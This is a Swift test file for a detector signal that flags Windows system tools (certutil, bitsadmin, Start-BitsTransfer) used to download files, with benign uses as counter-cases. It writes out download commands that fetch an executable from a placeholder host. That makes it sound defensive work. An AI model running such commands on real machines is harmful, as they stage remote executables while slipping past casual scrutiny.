import Testing

@testable import Guard

/// `Signal.systemToolDownload`.
struct SystemToolDownloadTests {
  @Test(arguments: [
    "certutil -urlcache -split -f http://fix.example/a.exe a.exe",
    #"bitsadmin /transfer j http://fix.example/a.exe C:\a.exe"#,
    "Start-BitsTransfer -Source https://fix.example/a -Destination a",
  ])
  func `a download by a tool for something else is noticed`(text: String) {
    #expect(Signal.systemToolDownload.severity(of: text) == .notice)
  }

  @Test(arguments: [
    "certutil -hashfile a.exe SHA256",
    "bitsadmin /list",
    #"Start-BitsTransfer -Source \\server\share\a -Destination C:\a"#,
  ])
  func `the proper use of such tools is harmless`(text: String) {
    #expect(Signal.systemToolDownload.severity(of: text) == nil)
  }
}
